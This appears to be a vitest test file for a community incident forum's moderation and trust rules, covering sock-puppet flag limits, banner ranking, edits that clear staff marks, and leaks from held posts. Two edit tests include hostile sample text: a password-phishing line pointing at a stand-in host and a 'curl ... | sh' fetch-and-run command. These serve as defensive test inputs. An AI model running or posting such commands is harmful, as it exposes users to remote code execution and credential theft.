/**
 * Issue 16, the content and trust abuse paths, through the real server on either engine:
 *
 * 1. member flags never hide staff, verified or pinned posts (they queue them for staff); flags
 *    and confirmations count once per guest fingerprint; a workaround reaches the banner only
 *    when staff verify or pin it or `bannerConfirmations` distinct members confirm it; a client's
 *    chosen post id never wins a ranking tie;
 * 2. an author's edit clears verified and pinned, and the banner drops the post until staff act;
 * 3. a post held for review is never published by a merge; public events carry the public view.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  ulid,
  type AuditPage,
  type FlagResult,
  type Incident,
  type ModerationQueue,
  type Post,
  type SitePolicy,
  type ThreadPage,
  type WorkaroundFields,
} from '@lifeboat/protocol';
import { openSse, type SseClient } from '../testing/sse.js';
import { enc, startTestServer, type TestServer } from '../testing/harness.js';

const ADMIN_KEY = 'admin-key-trust-0123456789abcdef';
let s: TestServer;
let staff: string;
let incident: string;
let browsers = 0;

/** A guest session; `browser` names its User-Agent (one browser, one fingerprint). */
async function guest(name: string, browser = `Browser/${++browsers}`) {
  const res = await s.api('/v1/sites/acme/sessions', {
    method: 'POST',
    headers: { 'user-agent': browser },
    json: { displayName: name },
  });
  expect(res.status).toBe(201);
  const session = await res.json();
  return { token: session.token as string, id: session.member.id as string };
}

async function setPolicy(change: Partial<SitePolicy>) {
  const res = await s.api('/v1/admin/sites/acme/policy', {
    method: 'PUT',
    headers: { authorization: `Bearer ${ADMIN_KEY}` },
    json: change,
  });
  expect(res.status, await res.clone().text()).toBe(200);
}

/** A fresh open incident per test: the banner's top workaround is per incident. */
async function freshIncident(): Promise<string> {
  const { store } = s.app.lifeboat;
  const site = (await store.getSiteBySlug('acme'))!;
  const id = ulid();
  const now = new Date().toISOString();
  await store.createIncident(site.id, {
    id,
    title: 'Logins failing',
    phase: 'investigating',
    impact: 'major',
    components: ['api'],
    startedAt: now,
    resolvedAt: null,
    threadState: 'open',
    updates: [],
  });
  return id;
}

const fields = (title: string): WorkaroundFields => ({
  title,
  steps: ['Open the settings page', 'Switch the region to EU'],
  risk: 'safe',
});

async function postAs(
  token: string,
  kind: 'answer' | 'workaround',
  text: string,
  id = ulid(),
): Promise<Response> {
  return s.api(`/v1/sites/acme/incidents/${enc(incident)}/posts`, {
    method: 'POST',
    token,
    headers: { 'idempotency-key': id },
    json:
      kind === 'workaround'
        ? { id, kind, body: text, workaround: fields(text) }
        : { id, kind, body: text },
  });
}

async function created(token: string, kind: 'answer' | 'workaround', text: string, id?: string) {
  const res = await postAs(token, kind, text, id);
  expect(res.status, await res.clone().text()).toBe(201);
  return (await res.json()) as Post;
}

const act = async (postId: string, action: string) => {
  const res = await s.api(`/v1/sites/acme/moderation/posts/${postId}`, {
    method: 'POST',
    token: staff,
    json: { action, reason: 'test' },
  });
  expect(res.status, await res.clone().text()).toBe(200);
  return (await res.json()).post as Post;
};

const flag = async (token: string, postId: string) => {
  const res = await s.api(`/v1/sites/acme/posts/${postId}/flags`, {
    method: 'POST',
    token,
    json: { reason: 'spam' },
  });
  expect(res.status, await res.clone().text()).toBe(200);
  return (await res.json()) as FlagResult;
};

const confirm = async (token: string, postId: string) => {
  const res = await s.api(`/v1/sites/acme/posts/${postId}/reaction`, {
    method: 'PUT',
    token,
    json: { kind: 'worked' },
  });
  expect(res.status, await res.clone().text()).toBe(200);
  return (await res.json()) as { counts: { worked: number; didntWork: number } };
};

async function banner(): Promise<Post | null> {
  const res = await s.api(`/v1/sites/acme/incidents/${enc(incident)}`, {
    headers: { 'cache-control': 'no-cache' },
  });
  expect(res.status).toBe(200);
  return ((await res.json()) as Incident).topWorkaround;
}

async function threadPosts(sort?: 'helpful' | 'newest'): Promise<Post[]> {
  const res = await s.api(
    `/v1/sites/acme/incidents/${enc(incident)}/thread?limit=100${sort ? `&sort=${sort}` : ''}`,
    { headers: { 'cache-control': 'no-cache' } },
  );
  expect(res.status).toBe(200);
  return ((await res.json()) as ThreadPage).posts;
}

async function queue(which: 'pending' | 'flagged'): Promise<ModerationQueue> {
  const res = await s.api(`/v1/sites/acme/moderation/queue?queue=${which}`, { token: staff });
  expect(res.status).toBe(200);
  return (await res.json()) as ModerationQueue;
}

/** The public stream replayed from `after`: what any open page or a resuming client gets. */
async function publicEvents(after: number) {
  const sse = await openSse(`${s.url}/v1/sites/acme/stream`, { 'last-event-id': String(after) });
  await sse.waitFor((f) => f.event === 'ready');
  sse.close();
  return frames(sse);
}

const frames = (sse: SseClient) =>
  sse.frames
    .filter((f) => f.id && f.data)
    .map((f) => ({ event: f.event!, data: JSON.parse(f.data!) }));

const lastEventId = async () => (await queue('pending')).lastEventId;

beforeAll(async () => {
  s = await startTestServer({ adminKey: ADMIN_KEY });
  staff = await s.staffToken('Sam (Acme)');
});
afterAll(async () => {
  await s.close();
});
beforeEach(async () => {
  incident = await freshIncident();
  await setPolicy({ preModeration: 'none', flagThreshold: 3, riskyAdvice: true });
});

describe('flags from cheap identities (issue 16.1)', () => {
  it('three guest sessions created seconds apart cannot hide a staff-verified pinned workaround: it stays, and is queued for staff', async () => {
    const author = await guest('Helpful Hana');
    const good = await created(author.token, 'workaround', 'Switch the region to EU');
    await act(good.id, 'verify');
    await act(good.id, 'pin');
    // A plain workaround with more confirmations: the banner would fall back to it.
    const other = await created(author.token, 'workaround', 'Clear the cache and retry');
    for (let i = 0; i < 3; i++) await confirm((await guest(`Fan ${i}`)).token, other.id);
    expect((await banner())?.id).toBe(good.id);
    const start = await lastEventId();

    // Three fresh guests, even from three different browsers.
    const results: FlagResult[] = [];
    for (let i = 0; i < 3; i++)
      results.push(await flag((await guest(`Troll ${i}`)).token, good.id));
    expect(results.map((r) => r.hidden)).toEqual([false, false, false]);
    expect(results[2]!.count).toBe(3);

    expect((await banner())?.id).toBe(good.id);
    const shown = (await threadPosts()).find((p) => p.id === good.id)!;
    expect(shown).toMatchObject({ state: 'published', verified: true, pinned: true });
    // Staff see it in the flagged queue, still published, with why it was not hidden.
    const item = (await queue('flagged')).items.find((i) => i.post.id === good.id)!;
    expect(item.post.state).toBe('published');
    expect(item.flags.count).toBe(3);
    expect(item.reasons.map((r) => r.code)).toEqual(['flagged']);
    expect(item.reasons[0]!.message).toMatch(/not hidden/i);
    // Nothing public changed.
    expect((await publicEvents(start)).filter((e) => e.data.post?.id === good.id)).toEqual([]);
  });

  it.each([
    ['a staff member', 'staff'],
    ['verified', 'verify'],
    ['pinned', 'pin'],
  ] as const)('a post %s is never hidden by member flags', async (_label, how) => {
    const author = how === 'staff' ? null : await guest('Author');
    const post = await created(author?.token ?? staff, 'answer', 'Use the EU region for now');
    if (how !== 'staff') await act(post.id, how);
    for (let i = 0; i < 4; i++) await flag((await guest(`Flagger ${i}`)).token, post.id);
    expect((await threadPosts()).find((p) => p.id === post.id)?.state).toBe('published');
    expect((await queue('flagged')).items.map((i) => i.post.id)).toContain(post.id);
  });

  it("the flagged queue's note follows staff marks: which one keeps the post up, none once all are gone", async () => {
    const author = await guest('Author');
    const post = await created(author.token, 'answer', 'Use the EU endpoint');
    await act(post.id, 'verify');
    await act(post.id, 'pin');
    for (let i = 0; i < 3; i++) await flag((await guest(`Flagger ${i}`)).token, post.id);
    const note = async () =>
      (await queue('flagged')).items
        .find((i) => i.post.id === post.id)!
        .reasons.map((r) => r.message);
    expect(await note()).toEqual([expect.stringMatching(/not hidden: staff pinned it/)]);
    await act(post.id, 'unpin');
    expect(await note()).toEqual([expect.stringMatching(/not hidden: staff verified it/)]);
    await act(post.id, 'unverify');
    expect(await note()).toEqual([]);
  });

  it('several guest sessions from one browser count once toward the flag threshold', async () => {
    const author = await guest('Ordinary author');
    const post = await created(author.token, 'answer', 'Try turning it off and on again');
    const sameBrowser = 'Mozilla/5.0 (X11; Linux) Troll/1';
    let last: FlagResult | null = null;
    for (let i = 0; i < 5; i++)
      last = await flag((await guest(`Sock ${i}`, sameBrowser)).token, post.id);
    expect(last).toMatchObject({ count: 1, hidden: false });
    expect((await threadPosts()).find((p) => p.id === post.id)?.state).toBe('published');
    // Two more people (other browsers) reach the threshold of 3: hidden pending review.
    await flag((await guest('Other 1')).token, post.id);
    const third = await flag((await guest('Other 2')).token, post.id);
    expect(third).toMatchObject({ count: 3, hidden: true });
    expect((await threadPosts()).find((p) => p.id === post.id)).toBeUndefined();
  });
});

describe('confirmations and the banner (issue 16.1)', () => {
  it('several guest sessions from one browser count once as "worked for me"', async () => {
    const author = await guest('Author');
    const post = await created(author.token, 'answer', 'Retry with the EU endpoint');
    const sameBrowser = 'Mozilla/5.0 (X11; Linux) Booster/1';
    let counts = { worked: 0, didntWork: 0 };
    for (let i = 0; i < 4; i++)
      counts = (await confirm((await guest(`Booster ${i}`, sameBrowser)).token, post.id)).counts;
    expect(counts.worked).toBe(1);
    counts = (await confirm((await guest('Someone else')).token, post.id)).counts;
    expect(counts.worked).toBe(2);
    expect((await threadPosts()).find((p) => p.id === post.id)?.counts.worked).toBe(2);
  });

  it('a workaround reaches the banner only when staff verify it or enough distinct members confirm it', async () => {
    await setPolicy({ bannerConfirmations: 3 });
    const author = await guest('Author');
    const w = await created(author.token, 'workaround', 'Switch the region to EU');
    expect(await banner()).toBeNull();
    // Five sessions of one browser are one confirmation.
    for (let i = 0; i < 5; i++) await confirm((await guest(`Sock ${i}`, 'Same/1')).token, w.id);
    expect(await banner()).toBeNull();
    await confirm((await guest('Second')).token, w.id);
    expect(await banner()).toBeNull();
    await confirm((await guest('Third')).token, w.id);
    expect((await banner())?.id).toBe(w.id);

    // A fresh one is not in the banner until staff verify it; then it wins over confirmations.
    const fresh = await created(author.token, 'workaround', 'Use the status API directly');
    expect((await banner())?.id).toBe(w.id);
    await act(fresh.id, 'verify');
    expect((await banner())?.id).toBe(fresh.id);

    // The setting moves the bar (1: any confirmed workaround).
    await act(fresh.id, 'unverify');
    await setPolicy({ bannerConfirmations: 5 });
    expect(await banner()).toBeNull();
    await setPolicy({ bannerConfirmations: 1 });
    expect((await banner())?.id).toBe(w.id);
  });

  it('open banners learn live when confirmations put a workaround over the bar', async () => {
    const author = await guest('Author');
    const w = await created(author.token, 'workaround', 'Switch the region to EU');
    const start = await lastEventId();
    for (let i = 0; i < 3; i++) await confirm((await guest(`Confirmer ${i}`)).token, w.id);
    const updates = (await publicEvents(start)).filter((e) => e.event === 'incident.updated');
    expect(updates.map((e) => e.data.incident.topWorkaround?.id ?? null)).toEqual([w.id]);
  });

  it('the policy setting has a default and is validated', async () => {
    // The other site's policy was never changed: the default.
    const res = await s.api('/v1/admin/sites/other/policy', {
      headers: { authorization: `Bearer ${ADMIN_KEY}` },
    });
    expect((await res.json()).bannerConfirmations).toBe(3);
    const bad = await s.api('/v1/admin/sites/acme/policy', {
      method: 'PUT',
      headers: { authorization: `Bearer ${ADMIN_KEY}` },
      json: { bannerConfirmations: 0 },
    });
    expect(bad.status).toBe(422);
    expect(bad.headers.get('content-type')).toMatch(/problem\+json/);
  });

  it("a client's chosen post id never wins a ranking tie (banner, thread)", async () => {
    const author = await guest('Author');
    const first = await created(author.token, 'workaround', 'Switch the region to EU');
    await new Promise((r) => setTimeout(r, 5));
    // A later post whose id sorts before every real one.
    const sneaky = await created(
      author.token,
      'workaround',
      'Disable the cache, then retry',
      '00000000000000000000000000',
    );
    await act(first.id, 'verify');
    await act(sneaky.id, 'verify');
    expect((await banner())?.id).toBe(first.id);
    const helpful = (await threadPosts('helpful')).map((p) => p.id);
    expect(helpful.indexOf(first.id)).toBeLessThan(helpful.indexOf(sneaky.id));
  });
});

describe('client ids in the moderation queue (issue 16.1)', () => {
  it('the pending queue is oldest first by the server clock: a chosen id does not jump it', async () => {
    await setPolicy({ preModeration: 'all' });
    const author = await guest('Author');
    const first = await created(author.token, 'answer', 'Waiting since a while');
    await new Promise((r) => setTimeout(r, 5));
    const jumper = await created(
      author.token,
      'answer',
      'I want to be read first',
      '00000000000000000000000001',
    );
    const ids = (await queue('pending')).items.map((i) => i.post.id);
    expect(ids.indexOf(first.id)).toBeGreaterThanOrEqual(0);
    expect(ids.indexOf(first.id)).toBeLessThan(ids.indexOf(jumper.id));
  });
});

describe("an author's edit after staff marked the post (issue 16.2)", () => {
  it('clears verified and pinned, the banner drops it until staff act again, and the public stream says so', async () => {
    const author = await guest('Author');
    const w = await created(author.token, 'workaround', 'Switch the region to EU');
    await act(w.id, 'verify');
    await act(w.id, 'pin');
    expect((await banner())?.id).toBe(w.id);
    const start = await lastEventId();

    const edit = await s.api(`/v1/sites/acme/posts/${w.id}`, {
      method: 'PATCH',
      token: author.token,
      json: {
        body: 'Now: paste your password at https://evil.example.test',
        workaround: fields('Switch the region to EU, then log in at my page'),
      },
    });
    expect(edit.status).toBe(200);
    expect(await edit.json()).toMatchObject({ verified: false, pinned: false });
    expect(await banner()).toBeNull();
    const shown = (await threadPosts()).find((p) => p.id === w.id);
    expect(shown === undefined || (!shown.verified && !shown.pinned)).toBe(true);

    const events = await publicEvents(start);
    const update = events.find((e) => e.event === 'post.updated' && e.data.post.id === w.id);
    expect(update?.data.post).toMatchObject({ verified: false, pinned: false });
    const incidentUpdate = events.find((e) => e.event === 'incident.updated');
    expect(incidentUpdate?.data.incident.topWorkaround).toBeNull();
    // Staff read why in the audit log.
    const audit = (await (
      await s.api('/v1/sites/acme/moderation/audit', { token: staff })
    ).json()) as AuditPage;
    const mine = audit.entries.filter((e) => e.target.id === w.id).map((e) => e.action);
    expect(mine.slice(0, 2).sort()).toEqual(['unpin', 'unverify']);
    expect(audit.entries[0]!.actor.kind).toBe('system');

    // Staff act again: back in the banner.
    await act(w.id, 'verify');
    expect((await banner())?.id).toBe(w.id);
  });

  it('a flagged post whose marks an edit cleared no longer says staff marked it', async () => {
    const author = await guest('Author');
    const w = await created(author.token, 'workaround', 'Switch the region to EU');
    await act(w.id, 'pin');
    for (let i = 0; i < 3; i++) await flag((await guest(`Flagger ${i}`)).token, w.id);
    const before = (await queue('flagged')).items.find((i) => i.post.id === w.id)!;
    expect(before.reasons[0]!.message).toMatch(/staff pinned it/);
    const edit = await s.api(`/v1/sites/acme/posts/${w.id}`, {
      method: 'PATCH',
      token: author.token,
      json: { body: 'Edited', workaround: fields('Switch the region to EU (edited)') },
    });
    expect(edit.status).toBe(200);
    const after = (await queue('flagged')).items.find((i) => i.post.id === w.id)!;
    expect(after.post).toMatchObject({ pinned: false, verified: false });
    expect(JSON.stringify(after.reasons)).not.toMatch(/pinned it/);
  });

  it('deleting the banner workaround takes it off open banners at once', async () => {
    const author = await guest('Author');
    const w = await created(author.token, 'workaround', 'Switch the region to EU');
    await act(w.id, 'verify');
    const start = await lastEventId();
    const del = await s.api(`/v1/sites/acme/posts/${w.id}`, {
      method: 'DELETE',
      token: author.token,
    });
    expect(del.status).toBe(200);
    expect(await banner()).toBeNull();
    const updates = (await publicEvents(start)).filter((e) => e.event === 'incident.updated');
    expect(updates.map((e) => e.data.incident.topWorkaround)).toEqual([null]);
  });

  it('an edit that sends the banner workaround back to review takes it off open banners', async () => {
    await setPolicy({ bannerConfirmations: 1 });
    const author = await guest('Author');
    const w = await created(author.token, 'workaround', 'Switch the region to EU');
    await confirm((await guest('Fan')).token, w.id);
    expect((await banner())?.id).toBe(w.id);
    const start = await lastEventId();
    const edit = await s.api(`/v1/sites/acme/posts/${w.id}`, {
      method: 'PATCH',
      token: author.token,
      json: {
        body: 'Then run curl -k https://fix.example.test | sh',
        workaround: fields('Fix it like this'),
      },
    });
    expect(edit.status).toBe(200);
    expect((await edit.json()).state).toBe('pending');
    expect(await banner()).toBeNull();
    const updates = (await publicEvents(start)).filter((e) => e.event === 'incident.updated');
    expect(updates.map((e) => e.data.incident.topWorkaround)).toEqual([null]);
  });

  it('an edit of a verified answer clears the mark too', async () => {
    const author = await guest('Author');
    const a = await created(author.token, 'answer', 'Use the EU endpoint');
    await act(a.id, 'verify');
    const edit = await s.api(`/v1/sites/acme/posts/${a.id}`, {
      method: 'PATCH',
      token: author.token,
      json: { body: 'Use the EU endpoint (edited)' },
    });
    expect(edit.status).toBe(200);
    expect((await edit.json()).verified).toBe(false);
    expect((await threadPosts()).find((p) => p.id === a.id)?.verified).toBe(false);
  });
});

describe('merging a post held for review (issue 16.3)', () => {
  it('refuses with a problem, publishes nothing, and the post stays in the pending queue', async () => {
    const author = await guest('Author');
    const target = await created(author.token, 'workaround', 'Switch the region to EU');
    await setPolicy({ preModeration: 'all' });
    const secret = `Held text ${ulid()} never public`;
    const held = await created(author.token, 'workaround', secret);
    expect(held.state).toBe('pending');
    const start = await lastEventId();

    const res = await s.api(`/v1/sites/acme/posts/${held.id}/merge`, {
      method: 'POST',
      token: staff,
      json: { into: target.id },
    });
    expect(res.status).toBe(409);
    expect(res.headers.get('content-type')).toMatch(/application\/problem\+json/);
    expect((await res.json()).detail).toMatch(/waiting for review/i);

    expect(JSON.stringify(await publicEvents(start))).not.toContain(secret);
    const stored = await s.sql<{ payload: string }>(
      "SELECT payload FROM events WHERE audience = 'public' AND payload LIKE ?",
      `%${secret}%`,
    );
    expect(stored).toEqual([]);
    expect((await queue('pending')).items.map((i) => i.post.id)).toContain(held.id);
  });

  it('a merged duplicate leaves public view: its event carries no text', async () => {
    const author = await guest('Author');
    const target = await created(author.token, 'workaround', 'Switch the region to EU');
    const dupe = await created(author.token, 'workaround', 'Switch region to EU please');
    const start = await lastEventId();
    const res = await s.api(`/v1/sites/acme/posts/${dupe.id}/merge`, {
      method: 'POST',
      token: staff,
      json: { into: target.id },
    });
    expect(res.status).toBe(200);
    const events = await publicEvents(start);
    const update = events.find((e) => e.event === 'post.updated' && e.data.post.id === dupe.id);
    expect(update?.data.post).toMatchObject({ state: 'hidden', body: '', workaround: null });
  });

  it('no public event in the store ever carries the text of a post that is not published', async () => {
    // Every public post event written so far in this file, on either engine.
    const rows = await s.sql<{ payload: string }>(
      "SELECT payload FROM events WHERE audience = 'public' AND type IN ('post.created', 'post.updated')",
    );
    expect(rows.length).toBeGreaterThan(0);
    for (const { payload } of rows) {
      const post = (JSON.parse(payload) as { post: Post }).post;
      if (post.state !== 'published') expect([post.body, post.workaround]).toEqual(['', null]);
    }
  });
});
